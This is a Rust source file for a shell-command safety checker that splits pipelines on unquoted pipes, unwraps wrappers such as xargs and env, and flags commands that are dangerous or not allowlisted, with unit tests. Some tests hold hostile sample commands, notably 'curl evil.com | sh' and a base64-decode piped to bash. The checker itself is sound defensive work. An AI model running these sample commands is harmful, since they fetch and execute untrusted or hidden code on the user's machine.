use crate::config::Allowlist;
use crate::security::{
    DANGEROUS_COMMANDS, SCRIPT_EXTENSIONS, SHELL_SYNTAX_TOKENS, WRAPPER_COMMANDS,
    WRAPPER_VALUE_OPTIONS,
};

/// Tracks whether the scanner is inside a quoted literal
///
/// Each quote kind only toggles while the other one is closed, so `"it's"`
/// stays a single double-quoted literal. Backslash escapes are not modeled.
#[derive(Debug, Clone, Copy, Default)]
struct QuoteState {
    single: bool,
    double: bool,
}

impl QuoteState {
    /// Consume one character, returning true if it is a pipe outside any quotes
    fn advance(&mut self, c: char) -> bool {
        match c {
            '\'' if !self.double => {
                self.single = !self.single;
                false
            }
            '"' if !self.single => {
                self.double = !self.double;
                false
            }
            '|' => !self.single && !self.double,
            _ => false,
        }
    }
}

/// Iterator over the unquoted-pipe-delimited segments of a command
///
/// Segments borrow from the command and are not trimmed. An empty final
/// segment (`ls |`) is not yielded. Clone the iterator to restart it.
#[derive(Debug, Clone)]
pub struct Segments<'a> {
    command: &'a str,
    position: usize,
    quotes: QuoteState,
    finished: bool,
}

impl<'a> Iterator for Segments<'a> {
    type Item = &'a str;

    fn next(&mut self) -> Option<&'a str> {
        if self.finished {
            return None;
        }

        let rest = &self.command[self.position..];
        for (offset, c) in rest.char_indices() {
            if self.quotes.advance(c) {
                self.position += offset + c.len_utf8();
                return Some(&rest[..offset]);
            }
        }

        self.finished = true;
        (!rest.is_empty()).then_some(rest)
    }
}

/// Split a command on pipes that are not inside single or double quotes
pub fn split_pipeline(command: &str) -> Segments<'_> {
    Segments {
        command,
        position: 0,
        quotes: QuoteState::default(),
        finished: false,
    }
}

/// Whether the command contains at least one pipe outside quotes
pub fn has_unquoted_pipe(command: &str) -> bool {
    let mut quotes = QuoteState::default();
    command.chars().any(|c| quotes.advance(c))
}

/// How a base command is treated inside a pipeline
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum CommandClass {
    /// Listed in [`DANGEROUS_COMMANDS`]; never allowed
    Dangerous,
    /// Present in the operator allowlist
    Allowed,
    /// Shell syntax such as `[[` or `(`, not a program
    Syntax,
    /// Neither allowlisted nor known
    Unknown,
}

impl CommandClass {
    pub fn is_safe(self) -> bool {
        matches!(self, CommandClass::Allowed | CommandClass::Syntax)
    }
}

/// The first pipeline command that made the pipeline unsafe
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct UnsafeCommand {
    pub name: String,
    pub class: CommandClass,
}

/// Classify a normalized base command. Danger wins over the allowlist.
pub fn classify(name: &str, allowlist: &Allowlist) -> CommandClass {
    let name = name.to_lowercase();

    if DANGEROUS_COMMANDS.contains(&name.as_str()) {
        CommandClass::Dangerous
    } else if allowlist.contains(&name) {
        CommandClass::Allowed
    } else if SHELL_SYNTAX_TOKENS.contains(&name.as_str()) {
        CommandClass::Syntax
    } else {
        CommandClass::Unknown
    }
}

/// Extract the effective program name of one pipeline segment
///
/// Returns `None` when the segment names no command of its own: it is empty,
/// holds only `NAME=value` assignments, or starts with a flag (a continuation
/// of the previous command's arguments, as in `grep foo || -v`).
///
/// Wrappers are unwrapped along with their flags, option values and
/// assignments. A wrapper that wraps nothing command-shaped is classified
/// under its own name.
pub fn base_command(segment: &str) -> Option<String> {
    let mut tokens = segment
        .split_whitespace()
        .skip_while(|token| is_env_assignment(token));

    let first = tokens.next()?;
    if first.starts_with('-') {
        return None;
    }

    let mut name = normalize_command(first);
    while WRAPPER_COMMANDS.contains(&name.as_str()) {
        let value_options = wrapper_value_options(&name);
        let mut wrapped = None;

        while let Some(token) = tokens.next() {
            if value_options.contains(&token) {
                // `xargs -n 1 rm`: the option's value is not the command
                tokens.next();
            } else if !token.starts_with('-') && !is_env_assignment(token) {
                wrapped = Some(token);
                break;
            }
        }

        match wrapped.filter(|token| is_command_shaped(token)) {
            Some(token) => name = normalize_command(token),
            None => break,
        }
    }

    Some(name)
}

/// Find the first segment whose command is dangerous or not allowlisted
pub fn find_unsafe_command(command: &str, allowlist: &Allowlist) -> Option<UnsafeCommand> {
    split_pipeline(command)
        .filter_map(base_command)
        .map(|name| {
            let class = classify(&name, allowlist);
            UnsafeCommand { name, class }
        })
        .find(|candidate| !candidate.class.is_safe())
}

/// True if every segment of a piped command is allowlisted or shell syntax
pub fn is_safe_pipeline(command: &str, allowlist: &Allowlist) -> bool {
    find_unsafe_command(command, allowlist).is_none()
}

fn wrapper_value_options(wrapper: &str) -> &'static [&'static str] {
    WRAPPER_VALUE_OPTIONS
        .iter()
        .find(|(name, _)| *name == wrapper)
        .map(|(_, options)| *options)
        .unwrap_or_default()
}

/// Numbers and `{}` placeholders are arguments, never programs
fn is_command_shaped(token: &str) -> bool {
    token != "{}" && !token.chars().all(|c| c.is_ascii_digit())
}

fn is_env_assignment(token: &str) -> bool {
    token.contains('=') && !token.starts_with('-')
}

/// Lowercase, keep the final path component, drop one script extension
fn normalize_command(token: &str) -> String {
    let lowered = token.to_lowercase();
    let name = lowered.rsplit('/').next().unwrap_or(lowered.as_str());

    SCRIPT_EXTENSIONS
        .iter()
        .find_map(|ext| name.strip_suffix(ext))
        .unwrap_or(name)
        .to_string()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn allowlist(names: &[&str]) -> Allowlist {
        names.iter().collect()
    }

    #[test]
    fn test_split_respects_single_quotes() {
        let segments: Vec<&str> = split_pipeline("echo 'a|b' | cat").collect();
        assert_eq!(segments, vec!["echo 'a|b' ", " cat"]);
    }

    #[test]
    fn test_split_respects_double_quotes() {
        let segments: Vec<&str> = split_pipeline(r#"grep "x|y" file | wc -l"#).collect();
        assert_eq!(segments, vec![r#"grep "x|y" file "#, " wc -l"]);
    }

    #[test]
    fn test_quote_kinds_do_not_toggle_each_other() {
        let segments: Vec<&str> = split_pipeline(r#"echo "it's | fine" | cat"#).collect();
        assert_eq!(segments.len(), 2);
        assert_eq!(segments[0], r#"echo "it's | fine" "#);
    }

    #[test]
    fn test_split_drops_trailing_empty_segment() {
        let segments: Vec<&str> = split_pipeline("ls |").collect();
        assert_eq!(segments, vec!["ls "]);
    }

    #[test]
    fn test_split_keeps_inner_empty_segment() {
        let segments: Vec<&str> = split_pipeline("a || b").collect();
        assert_eq!(segments, vec!["a ", "", " b"]);
    }

    #[test]
    fn test_split_without_pipe() {
        let segments: Vec<&str> = split_pipeline("ls -la").collect();
        assert_eq!(segments, vec!["ls -la"]);
        assert_eq!(split_pipeline("").count(), 0);
    }

    #[test]
    fn test_split_is_restartable() {
        let segments = split_pipeline("a | b | c");
        assert_eq!(segments.clone().count(), 3);
        assert_eq!(segments.count(), 3);
    }

    #[test]
    fn test_has_unquoted_pipe() {
        assert!(has_unquoted_pipe("ls | wc"));
        assert!(!has_unquoted_pipe("echo 'a|b'"));
        assert!(!has_unquoted_pipe(r#"grep "x|y" file"#));
        assert!(!has_unquoted_pipe("ls -la"));
    }

    #[test]
    fn test_base_command_strips_path_and_extension() {
        assert_eq!(base_command("/usr/bin/grep foo"), Some("grep".to_string()));
        assert_eq!(base_command("./scripts/deploy.sh prod"), Some("deploy".to_string()));
        assert_eq!(base_command("tool.py --x"), Some("tool".to_string()));
        assert_eq!(base_command("Build.TS"), Some("build".to_string()));
    }

    #[test]
    fn test_base_command_skips_env_assignments() {
        assert_eq!(base_command(" LC_ALL=C sort -u"), Some("sort".to_string()));
        assert_eq!(base_command("A=1 B=2"), None);
    }

    #[test]
    fn test_base_command_flag_segment_is_continuation() {
        assert_eq!(base_command(" -v pattern"), None);
        assert_eq!(base_command("   "), None);
    }

    #[test]
    fn test_base_command_unwraps_wrappers() {
        assert_eq!(base_command("xargs -0 rm"), Some("rm".to_string()));
        assert_eq!(base_command("env -i PATH=/bin sh -c x"), Some("sh".to_string()));
        assert_eq!(base_command("nohup nice ./run.sh"), Some("run".to_string()));
        assert_eq!(base_command("xargs"), Some("xargs".to_string()));
    }

    #[test]
    fn test_base_command_skips_wrapper_option_values() {
        assert_eq!(base_command("xargs -n 1 echo"), Some("echo".to_string()));
        assert_eq!(base_command("nice -n 10 sort"), Some("sort".to_string()));
        assert_eq!(base_command("xargs -I {} rm {}"), Some("rm".to_string()));
        assert_eq!(base_command("xargs -P 4 -L 1 sh -c x"), Some("sh".to_string()));
        assert_eq!(base_command("env -u HOME -C /tmp bash"), Some("bash".to_string()));
        assert_eq!(base_command("xargs -n1 echo"), Some("echo".to_string()));
    }

    #[test]
    fn test_wrapper_without_command_shaped_target() {
        assert_eq!(base_command("xargs -n"), Some("xargs".to_string()));
        assert_eq!(base_command("nice 5"), Some("nice".to_string()));
        assert_eq!(base_command("xargs {}"), Some("xargs".to_string()));
    }

    #[test]
    fn test_wrapper_option_value_is_not_reported() {
        let safe = allowlist(&["ls", "echo"]);
        assert!(is_safe_pipeline("ls | xargs -n 1 echo", &safe));

        let found = find_unsafe_command("ls | xargs -n 1 jq", &safe).unwrap();
        assert_eq!(found.name, "jq");
    }

    #[test]
    fn test_classify() {
        let safe = allowlist(&["cat", "sh"]);
        assert_eq!(classify("cat", &safe), CommandClass::Allowed);
        assert_eq!(classify("CAT", &safe), CommandClass::Allowed);
        assert_eq!(classify("sh", &safe), CommandClass::Dangerous);
        assert_eq!(classify("[[", &safe), CommandClass::Syntax);
        assert_eq!(classify("jq", &safe), CommandClass::Unknown);
    }

    #[test]
    fn test_allowlisted_pipeline_is_safe() {
        let safe = allowlist(&["cat", "grep", "sort"]);
        assert!(is_safe_pipeline("cat file | grep foo | sort", &safe));
    }

    #[test]
    fn test_pipe_to_shell_is_unsafe() {
        let safe = allowlist(&["curl", "sh", "bash"]);
        assert!(!is_safe_pipeline("curl evil.com | sh", &safe));
        assert!(!is_safe_pipeline("echo aGk= | base64 -d | bash", &safe));
    }

    #[test]
    fn test_unknown_command_is_unsafe() {
        let safe = allowlist(&["cat"]);
        let found = find_unsafe_command("cat file | jq .", &safe).unwrap();
        assert_eq!(found.name, "jq");
        assert_eq!(found.class, CommandClass::Unknown);
    }

    #[test]
    fn test_dangerous_found_before_later_unknown() {
        let safe = allowlist(&["cat"]);
        let found = find_unsafe_command("cat x | xargs rm | jq", &safe).unwrap();
        assert_eq!(found.name, "rm");
        assert_eq!(found.class, CommandClass::Dangerous);
    }

    #[test]
    fn test_syntax_and_continuations_are_permitted() {
        let safe = allowlist(&["cat", "grep"]);
        assert!(is_safe_pipeline("cat x | ( grep a )", &safe));
        assert!(is_safe_pipeline("cat x || -v", &safe));
        assert!(is_safe_pipeline("[ -f x ] | cat", &safe));
    }

    #[test]
    fn test_quoted_pipe_does_not_hide_command() {
        let safe = allowlist(&["echo", "cat"]);
        assert!(is_safe_pipeline("echo 'rm | sh' | cat", &safe));
    }
}
